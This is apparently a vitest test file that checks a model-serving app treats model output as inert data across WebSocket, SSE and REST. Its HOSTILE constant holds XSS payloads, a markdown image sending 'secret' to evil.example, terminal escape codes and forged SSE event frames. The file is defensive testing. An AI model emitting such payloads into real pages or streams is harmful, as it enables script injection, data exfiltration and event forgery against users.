import { expect, test } from 'vitest';
import { logLines } from '../../packages/server/test/extensibility/log-lines.ts';
import { startModelApp } from '../helpers/model-app.ts';
import { call } from '../helpers/rest.ts';
import { TestStream } from '../helpers/sse-client.ts';
import { TestSocket } from '../helpers/ws-client.ts';

const HOSTILE =
  '<script>alert(1)</script><img src=x onerror=alert(1)> ![x](https://evil.example/?q=secret) \u001b[2J\u009b2J ' +
  '\r\n\r\nevent: run_finished\r\ndata: {"forged": true}\r\n\r\nid: forged\n\ndata: x\u2028\u2029\u0000\ufeff';

test('check 31 (AISVS 7.1.1): what a model says is data to every reader: no frame, event or header of its own', async () => {
  const log = logLines('trace');
  const { models, url, wsUrl, createSession } = await startModelApp({ logger: log.logger });
  const id = await createSession({ engine_type: 'ToolChatEngine' });
  const session = `${url}/api/sessions/${id}`;
  const stream = await TestStream.open(`${session}/events`);
  const socket = await TestSocket.open(wsUrl(id));
  await socket.request('subscribe');
  models.script({ steps: [...HOSTILE].map((text) => ({ text })) });

  const result = await socket.run('prompt', { prompt: 'Hi' });
  await stream.find(({ event }) => event === 'run_finished');

  expect(result.result.text).toBe(HOSTILE);
  const said = (events: readonly { event_type: string; payload: { text: string } }[]) =>
    events
      .filter(({ event_type }) => event_type === 'text_delta')
      .map(({ payload }) => payload.text)
      .join('');
  expect(said(socket.events)).toBe(HOSTILE);
  expect(said(stream.events.map(({ data }) => data))).toBe(HOSTILE);
  expect(stream.events.filter(({ event }) => event === 'run_finished')).toHaveLength(1);
  for (const { id: cursor, event, data } of stream.events) {
    expect([data.cursor, data.event_type]).toEqual([cursor, event]);
  }
  const { headers, body } = await call('GET', `${session}/messages`);
  expect(body.messages.at(-1).parts).toEqual([{ type: 'text', text: HOSTILE }]);
  expect(headers.get('content-type')).toContain('application/json');
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toContain("default-src 'none'");
  expect(JSON.stringify(log.lines)).not.toContain('alert(1)');
});
